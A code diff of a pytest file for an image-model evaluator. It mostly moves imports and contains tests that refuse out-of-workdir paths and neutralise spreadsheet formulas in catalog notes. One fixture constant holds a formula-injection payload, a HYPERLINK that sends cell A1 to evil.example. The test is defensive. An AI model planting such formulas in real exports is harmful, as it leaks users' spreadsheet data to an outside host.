@@ -19,7 +19,7 @@ import pytest
 from click.testing import CliRunner
 from hardening_helpers import REPO, run_atelier, tiny_models, write_catalog
 
-from evaluator.cli import main
+from evaluator.cli.main import main
 
 CORPUS = REPO / "tests" / "corpus"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
@@ -31,7 +31,7 @@ def models(tmp_path_factory):
 
 
 def _store_with_rows(root: Path) -> Path:
-    from evaluator.store import open_store, transaction
+    from evaluator.workspace.store import open_store, transaction
 
     root.mkdir(parents=True, exist_ok=True)
     with open_store(root / "atelier.duckdb") as con, transaction(con):
@@ -133,7 +133,7 @@ def test_manifest_paths_outside_the_workdir_are_refused_and_nothing_is_read(mode
     from PIL import Image
 
     from catalog.units import WorkUnit
-    from evaluator.manifest import write_shard
+    from evaluator.workspace.manifest import write_shard
 
     root = tmp_path / "wd"
     (tmp_path / "outside.png").parent.mkdir(parents=True, exist_ok=True)
@@ -192,7 +192,7 @@ def test_gallery_refuses_a_store_row_pointing_outside(tmp_path):
     from PIL import Image
 
     from dashboard.queries import Store, gallery_images, image_file
-    from evaluator.store import open_store, transaction
+    from evaluator.workspace.store import open_store, transaction
 
     root = tmp_path / "wd"
     (root / "images").mkdir(parents=True)
@@ -220,7 +220,7 @@ def test_formula_in_a_catalog_note_passes_validation_with_a_warning_and_is_neutr
     from test_score_fixtures import make_workdir
 
     from dashboard.queries import Store, csv_bytes, run_user_sql
-    from evaluator.score import ScoreConfig, score
+    from evaluator.scoring.run import ScoreConfig, score
 
     catalog = write_catalog(tmp_path / "styles.csv", notes={"claude-monet": FORMULA},
                             artists=[("claude-monet", "Claude Monet", "yes"), ("pablo-picasso", "Pablo Picasso", "no"),
